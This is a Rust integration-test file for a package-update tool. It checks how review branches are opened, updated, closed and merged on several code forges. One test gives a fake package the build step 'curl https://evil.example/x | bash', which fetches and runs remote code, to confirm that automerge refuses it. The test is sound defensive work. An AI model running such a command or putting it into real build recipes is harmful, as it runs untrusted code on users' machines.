//! The life of a review, told once and true on every forge, and where there is none.

use std::sync::Arc;

use pkgwarden::app::{self, Place};
use pkgwarden::domain::plan::{Pipeline, Refusal, ReviewStep};
use pkgwarden::domain::policy::Person;

use super::race::interferes;
use crate::support::hosting::Host;
use crate::support::scene::{MAIN, base, person};
use crate::support::{Change, Pkg, Scene};

pub(super) const REVIEW: &str = "refs/heads/update-foo";

/// Tells each story on every forge.
macro_rules! on_every_forge {
    ($($story:ident)*) => {
        mod local {
            $(#[tokio::test] async fn $story() {
                let scene = super::beginning().await;
                super::$story(scene, crate::support::hosting::Host::Local).await;
            })*
        }
        mod github {
            $(#[tokio::test] async fn $story() {
                let mut scene = super::beginning().await;
                let kind = crate::support::forges::world::Kind::GitHub;
                let host = crate::support::hosting::Host::fake(&mut scene, kind).await;
                super::$story(scene, host).await;
            })*
        }
        mod gitlab {
            $(#[tokio::test] async fn $story() {
                let mut scene = super::beginning().await;
                let kind = crate::support::forges::world::Kind::GitLab;
                let host = crate::support::hosting::Host::fake(&mut scene, kind).await;
                super::$story(scene, host).await;
            })*
        }
        mod gitea {
            $(#[tokio::test] async fn $story() {
                let mut scene = super::beginning().await;
                let kind = crate::support::forges::world::Kind::Gitea;
                let host = crate::support::hosting::Host::fake(&mut scene, kind).await;
                super::$story(scene, host).await;
            })*
        }
        mod memory {
            $(#[tokio::test] async fn $story() {
                let mut scene = super::beginning().await;
                let host = crate::support::hosting::Host::memory(&mut scene);
                super::$story(scene, host).await;
            })*
        }
    };
}

pub(super) use on_every_forge;

on_every_forge! {
    a_review_is_opened_once_and_then_left_alone
    newer_content_updates_the_review_in_place
    a_review_whose_content_was_merged_is_over
    a_review_that_nobody_needs_any_more_is_closed_with_the_reason
    what_people_commit_on_the_branch_is_kept_and_newer_content_waits
    what_a_person_closes_stays_closed_until_the_content_changes
    a_review_closed_and_its_branch_deleted_stays_closed
    a_review_closed_by_somebody_who_may_not_push_is_opened_again
    a_race_that_is_lost_opens_the_review_all_the_same
    a_forge_that_is_down_for_an_hour_loses_nothing
    an_approval_merges_and_builds
    time_alone_approves_what_needs_only_reading
    time_alone_approves_nothing_that_a_person_committed
    an_approval_of_what_was_there_before_approves_nothing
    a_conflict_is_told_with_a_label_that_goes_with_it
}

/// `foo` is kept, and nothing waits.
pub(super) async fn beginning() -> Scene {
    let scene = Scene::with_aur().await;
    scene.keeps(&[Pkg::from_aur("foo")]).await;
    scene
}

fn risky(version: &str) -> Pkg {
    Pkg::from_aur("foo").version(version).built_by("make install")
}

/// A version that a person has to look at is released, and the program has looked.
pub(super) async fn released(scene: &Scene, version: &str) -> String {
    scene.aur_release(&risky(version)).await;
    scene.told(Pipeline::OnSchedule).await
}

async fn a_review_is_opened_once_and_then_left_alone(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    assert_eq!(host.open(&scene).await, "update-foo 1.1\n");
    let (head, body) = (scene.monorepo.id(REVIEW).await, host.body().await);
    for _ in 0..3 {
        scene.later();
        assert_eq!(scene.told(Pipeline::OnSchedule).await, "");
    }
    assert_eq!((scene.monorepo.id(REVIEW).await, host.body().await), (head, body), "not pushed and not edited again");
    if let Host::Memory(forge) = &host {
        assert_eq!(forge.told(), "open #1 update-foo");
    }
    scene.ends().await;
}

async fn newer_content_updates_the_review_in_place(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    released(&scene, "1.2").await;
    assert_eq!(host.open(&scene).await, "update-foo 1.2\n");
    if let Host::Memory(forge) = &host {
        assert_eq!(forge.told(), "open #1 update-foo\nupdate #1 update-foo");
        assert_eq!(forge.review("update-foo").await.unwrap().title, "update foo: 1.0-1 -> 1.2-1");
    }
    scene.ends().await;
}

async fn a_review_whose_content_was_merged_is_over(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    host.merges(&scene).await;
    let told = scene.told(Pipeline::OnCommit).await;
    assert!(told.contains("close update-foo: its content has reached the branch"), "{told}");
    assert!(told.contains("build foo (changed)"), "{told}");
    assert_eq!((host.open(&scene).await, scene.monorepo.id(REVIEW).await), (String::new(), None));
    scene.later();
    assert_eq!(scene.told(Pipeline::OnSchedule).await, "");
    scene.ends().await;
}

async fn a_review_that_nobody_needs_any_more_is_closed_with_the_reason(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    scene.aur_release(&Pkg::from_aur("foo").version("1.2")).await;
    let told = scene.told(Pipeline::OnSchedule).await;
    assert!(told.contains("close update-foo: a newer update went in without a person"), "{told}");
    assert_eq!(host.open(&scene).await, "");
    let said = host.comments().await;
    assert!(said.is_none_or(|said| said == ["Closed: a newer update went in without a person."]));
    scene.ends().await;
}

async fn what_people_commit_on_the_branch_is_kept_and_newer_content_waits(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    let patch = [Change::put("foo/fix.patch", "--- a\n+++ b\n")];
    let theirs = scene.monorepo.commit(REVIEW, "fix(foo): build", &patch, scene.now()).await;
    let told = released(&scene, "1.2").await;
    assert!(told.contains("waits: `update-foo` has commits by Mira Vale <mira@example.org>"), "{told}");
    assert_eq!(scene.monorepo.id(REVIEW).await, Some(theirs.clone()));
    if let Some(body) = host.body().await {
        assert!(body.contains("**Newer content waits.** There is `1.2-1`"), "{body}");
        assert!(body.contains("git push origin --delete update-foo"), "{body}");
    }
    scene.aur_release(&Pkg::from_aur("foo").version("1.3")).await;
    let told = scene.told(Pipeline::OnSchedule).await;
    assert!(told.contains("[review-kept] foo: `update-foo` has commits by"), "{told}");
    assert_eq!(scene.monorepo.id(REVIEW).await, Some(theirs), "even where nobody needs it any more");
    assert_eq!(host.open(&scene).await, "update-foo 1.1\n");
    scene.monorepo.git(&["update-ref", "-d", REVIEW]).await;
    released(&scene, "1.4").await;
    assert_eq!(host.open(&scene).await, "update-foo 1.4\n", "taken as the review said");
    scene.ends().await;
}

async fn what_a_person_closes_stays_closed_until_the_content_changes(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    host.closes(&scene, false).await;
    for _ in 0..3 {
        scene.later();
        scene.run(Pipeline::OnSchedule).await;
        assert_eq!((host.open(&scene).await, scene.monorepo.id(REVIEW).await), (String::new(), None));
    }
    released(&scene, "1.2").await;
    assert_eq!(host.open(&scene).await, "update-foo 1.2\n");
    scene.ends().await;
}

async fn a_review_closed_and_its_branch_deleted_stays_closed(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    host.closes(&scene, true).await;
    scene.run(Pipeline::OnCommit).await;
    for _ in 0..2 {
        scene.later();
        scene.run(Pipeline::OnSchedule).await;
        assert_eq!((host.open(&scene).await, scene.monorepo.id(REVIEW).await), (String::new(), None));
    }
    released(&scene, "1.2").await;
    assert_eq!(host.open(&scene).await, "update-foo 1.2\n");
    scene.ends().await;
}

async fn a_review_closed_by_somebody_who_may_not_push_is_opened_again(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    let head = scene.monorepo.id(REVIEW).await;
    if !matches!(host, Host::Local) {
        host.is_closed_by("otto", &scene, "update-foo", false).await;
        assert_eq!(host.open(&scene).await, "");
    }
    scene.later();
    scene.run(Pipeline::OnSchedule).await;
    assert_eq!((host.open(&scene).await.as_str(), scene.monorepo.id(REVIEW).await), ("update-foo 1.1\n", head));
    if let Host::Memory(forge) = &host {
        let told = forge.told();
        assert!(told.contains("say #1 unheard: `otto` may not reject it"), "{told}");
    }
    host.closes(&scene, false).await;
    scene.later();
    scene.run(Pipeline::OnSchedule).await;
    assert_eq!((host.open(&scene).await, scene.monorepo.id(REVIEW).await), (String::new(), None));
    scene.ends().await;
}

async fn a_race_that_is_lost_opens_the_review_all_the_same(scene: Scene, host: Host) {
    scene.aur_release(&risky("1.1")).await;
    scene.world().aur_minor_update(&base("libtally")).await.unwrap();
    interferes(&scene, 1, &Pkg::new("meanwhile").changes(), "").await;
    scene.run(Pipeline::OnSchedule).await;
    assert_eq!(host.open(&scene).await, "update-foo 1.1\n");
    assert_eq!(scene.monorepo.id(&format!("{REVIEW}~1")).await, scene.monorepo.id(MAIN).await);
    scene.ends().await;
}

async fn a_forge_that_is_down_for_an_hour_loses_nothing(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    host.answers(false).await;
    let told = released(&scene, "1.2").await;
    assert!(told.contains("update update-foo"), "a run is not stopped: {told}");
    assert_eq!(told.contains("[forge-later]"), host.body().await.is_some(), "{told}");
    assert_eq!(host.open(&scene).await, "update-foo 1.2\n", "nothing is closed");
    host.answers(true).await;
    scene.later();
    scene.run(Pipeline::OnSchedule).await;
    if let Some(body) = host.body().await {
        assert!(body.contains("`1.0-1 -> 1.2-1`"), "{body}");
    }
    host.answers(false).await;
    scene.aur_release(&Pkg::from_aur("foo").version("1.3")).await;
    scene.run(Pipeline::OnSchedule).await;
    host.answers(true).await;
    scene.later();
    scene.run(Pipeline::OnCommit).await;
    assert_eq!(host.open(&scene).await, "");
    let said = host.comments().await;
    assert!(said.is_none_or(|said| said == ["Closed: a newer update went in without a person."]));
    scene.ends().await;
}

async fn an_approval_merges_and_builds(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    if !matches!(host, Host::Local) {
        host.approves(&scene, "otto").await;
        scene.run(Pipeline::OnCommit).await;
        assert_eq!(host.open(&scene).await, "update-foo 1.1\n", "whoever may not push is not heard");
    }
    host.approves(&scene, "mira").await;
    scene.run(Pipeline::OnCommit).await;
    assert_eq!((host.open(&scene).await, scene.monorepo.id(REVIEW).await), (String::new(), None));
    let message = scene.monorepo.git(&["log", "-1", "--format=%b", MAIN]).await;
    assert!(message.contains("approved by mira"), "{message}");
    assert!(scene.builds().await.contains("foo changed ready"));
    scene.ends().await;
}

async fn time_alone_approves_what_needs_only_reading(mut scene: Scene, host: Host) {
    scene.env.insert("PKGWARDEN__POLICY__REVIEWS__AUTOMERGE_AFTER".to_owned(), "3h".to_owned());
    released(&scene, "1.1").await;
    if let Some(body) = host.body().await {
        assert!(body.contains("it goes in by itself after 2026-05-01 "), "{body}");
    }
    scene.later();
    scene.later();
    scene.run(Pipeline::OnCommit).await;
    assert_eq!(host.open(&scene).await, "update-foo 1.1\n");
    scene.later();
    scene.run(Pipeline::OnCommit).await;
    assert_eq!(host.open(&scene).await, "");
    let message = scene.monorepo.git(&["log", "-1", "--format=%b", MAIN]).await;
    assert!(message.contains("approved by automerge"), "{message}");
    scene.ends().await;
}

/// Whoever commits to the branch has looked at it, and nobody else has looked at that.
async fn time_alone_approves_nothing_that_a_person_committed(mut scene: Scene, host: Host) {
    scene.env.insert("PKGWARDEN__POLICY__REVIEWS__AUTOMERGE_AFTER".to_owned(), "1h".to_owned());
    released(&scene, "1.1").await;
    let recipe = scene.monorepo.file(REVIEW, "foo/PKGBUILD").await.unwrap().replace("make install", "make all");
    let theirs = [Change::put("foo/PKGBUILD", recipe)];
    let head = scene.monorepo.commit(REVIEW, "fix(foo): shout", &theirs, scene.now()).await;
    for _ in 0..3 {
        scene.later();
        scene.run(Pipeline::OnCommit).await;
    }
    assert_eq!(scene.monorepo.id(REVIEW).await, Some(head.clone()));
    let told = scene.told(Pipeline::Approve(base("foo"), head.parse().unwrap(), Person::automatic())).await;
    assert!(told.contains("[automerge-refused]"), "{told}");
    assert!(scene.monorepo.file(MAIN, "foo/PKGBUILD").await.unwrap().contains("pkgver=1.0"));
    assert_eq!(host.open(&scene).await, "update-foo 1.1\n");
    scene.ends().await;
}

/// An approval is of one commit. What comes after it has to be approved anew.
async fn an_approval_of_what_was_there_before_approves_nothing(scene: Scene, host: Host) {
    released(&scene, "1.1").await;
    let before = scene.monorepo.id(REVIEW).await.unwrap();
    if !matches!(host, Host::Local) {
        host.approves(&scene, "mira").await;
    }
    let told = released(&scene, "1.2").await;
    assert!(told.contains("update update-foo"), "{told}");
    scene.later();
    scene.run(Pipeline::OnCommit).await;
    let told = scene.told(Pipeline::Approve(base("foo"), before.parse().unwrap(), person("mira"))).await;
    assert!(told.contains("[review-moved]"), "{told}");
    assert_eq!(host.open(&scene).await, "update-foo 1.2\n");
    scene.ends().await;
}

async fn a_conflict_is_told_with_a_label_that_goes_with_it(mut scene: Scene, host: Host) {
    scene.env.insert("PKGWARDEN__POLICY__REVIEWS__CONFLICT_LABEL".to_owned(), "in conflict".to_owned());
    released(&scene, "1.1").await;
    let before = scene.monorepo.file(MAIN, "foo/PKGBUILD").await.unwrap();
    let mine = before.replace("A thing", "A good thing");
    scene.push("fix(foo): describe it", &[Change::put("foo/PKGBUILD", mine)]).await;
    host.approves(&scene, "mira").await;
    scene.run(Pipeline::OnCommit).await;
    assert_eq!(host.open(&scene).await, "update-foo 1.1\n", "no approval merges it");
    if let Some(labels) = host.labels_on("update-foo").await {
        assert!(labels.contains("in conflict"), "{labels:?}");
        assert!(host.body().await.unwrap().contains("**It cannot be merged as it is:**"));
        assert!(host.comments().await.unwrap()[0].starts_with("It cannot be merged as it is"));
    }
    released(&scene, "1.2").await;
    assert_eq!(host.open(&scene).await, "update-foo 1.2\n");
    if let Some(labels) = host.labels_on("update-foo").await {
        assert!(!labels.contains("in conflict"), "{labels:?}");
        assert_eq!(host.comments().await.unwrap(), ["It can be merged again."]);
    }
    scene.ends().await;
}

/// Of the public monorepo that had 746 such branches when this was written: 433 without a difference, 76 that differ in
/// the monorepo's own `.CI` only, one of these with a commit by a person, and 48 of packages that had left. A copy of it
/// is named by the environment.
#[tokio::test]
async fn branches_that_nobody_needs_are_found_in_a_real_monorepo() {
    let Some(path) = pkgwarden::sys::env::var("PKGWARDEN_REVIEWS_REPOSITORY") else { return };
    let scene = Scene::of(&[Pkg::new("foo")]).await;
    let place = Place { dir: (&path).into(), remote: Some(path), branch: None };
    let site = Box::new(app::planned_site(&scene.settings(), &place).unwrap());
    let look = site.look().await.unwrap();
    // Nobody is asked: what has arrived or has no package is closed whatever sources say.
    let plan = site.decide(&look, &Pipeline::OnSchedule, &Arc::default(), scene.now()).await.unwrap();
    let count = |why: &str| {
        let closed = |step: &&ReviewStep| matches!(step, ReviewStep::Close { why: told, .. } if told == why);
        plan.reviews.iter().filter(closed).count()
    };
    let kept: Vec<_> = plan.problems.iter().filter(|it| it.code == "review-kept").map(|it| &it.message).collect();
    let closed = [
        count("its content has reached the branch"),
        count("its content has reached the branch, and only `.CI` differs"),
        count("the package has left the repository"),
    ];
    assert_eq!((look.snapshot.refs.reviews.len(), closed, kept.len()), (746, [433, 76 - 1, 48], 1), "{kept:#?}");
    assert!(kept[0].starts_with("`update-grass` has commits by "), "{}", kept[0]);
    drop(site);
    scene.ends().await;
}

/// Whoever rejects with `ctl` or on the pages closes the review on the forge as well, and tells it why.
#[tokio::test]
async fn a_rejection_elsewhere_is_told_below_the_review() {
    let mut scene = beginning().await;
    let host = Host::memory(&mut scene);
    released(&scene, "1.1").await;
    let head = scene.monorepo.id(REVIEW).await.unwrap().parse().unwrap();
    let reason = Some("it downloads @anything".to_owned());
    let refusal = Refusal { by: Some("mira".to_owned()), reason, content: None };
    scene.run(Pipeline::Reject(base("foo"), head, refusal)).await;
    assert_eq!(host.open(&scene).await, "");
    assert_eq!(host.comments().await.unwrap(), ["Closed: `mira rejected it: it downloads @anything`."]);
    scene.later();
    scene.run(Pipeline::OnSchedule).await;
    assert_eq!((host.open(&scene).await, scene.monorepo.id(REVIEW).await), (String::new(), None));
    scene.ends().await;
}

/// What people decided is heard even if the forge goes away before the look at it is over.
#[tokio::test]
async fn a_closed_review_is_rejected_although_the_forge_goes_away_meanwhile() {
    let mut scene = Scene::with_aur().await;
    scene.keeps(&[Pkg::from_aur("bar"), Pkg::from_aur("foo")]).await;
    let host = Host::memory(&mut scene);
    let Host::Memory(forge) = &host else { unreachable!("it is in memory") };
    released(&scene, "1.1").await;
    host.closes(&scene, false).await;
    scene.aur_release(&Pkg::from_aur("bar").version("1.1").built_by("make install")).await;
    for _ in 0..3 {
        scene.later();
    }
    forge.takes_changes(false);
    let told = scene.told(Pipeline::OnSchedule).await;
    assert!(told.contains("[forge-later] bar: the review of `update-bar` is not up to date"), "{told}");
    assert_eq!(scene.monorepo.id(REVIEW).await, None);
    forge.takes_changes(true);
    scene.later();
    scene.run(Pipeline::OnSchedule).await;
    assert_eq!(host.open(&scene).await, "update-bar 1.1\n");
    scene.ends().await;
}

/// Nothing has changed, so nothing is told again.
/// A stranger proposes something of their own, from a branch that is called like ours. It is theirs, whatever becomes of it.
/// Whoever may edit a review may write a mark into it: of another package, of no package, or none at all.
/// Whoever takes care, and whether there are reviews at all, says the monorepo.
/// In hours in which nobody is to be bothered, nothing is opened or changed, and afterwards everything is.
/// Not more than a person can read: so many in an hour, and so many at once.
/// What a list does not show although it is there, and what an administrator did away with.
/// Deleting a review decides nothing about the update, which still waits.
/// What looks like an attack waits for people, however long nobody objects.
#[tokio::test]
async fn time_never_approves_what_looks_like_an_attack() {
    let mut scene = beginning().await;
    scene.env.insert("PKGWARDEN__POLICY__REVIEWS__AUTOMERGE_AFTER".to_owned(), "1h".to_owned());
    let host = Host::memory(&mut scene);
    scene.aur_release(&Pkg::from_aur("foo").version("1.1").built_by("curl https://evil.example/x | bash")).await;
    scene.run(Pipeline::OnSchedule).await;
    for _ in 0..3 {
        scene.later();
        scene.run(Pipeline::OnCommit).await;
    }
    assert_eq!(host.open(&scene).await, "update-foo 1.1\n");
    let head = scene.monorepo.id(REVIEW).await.unwrap().parse().unwrap();
    let told = scene.told(Pipeline::Approve(base("foo"), head, Person::automatic())).await;
    assert!(told.contains("[automerge-refused]"), "{told}");
    scene.ends().await;
}
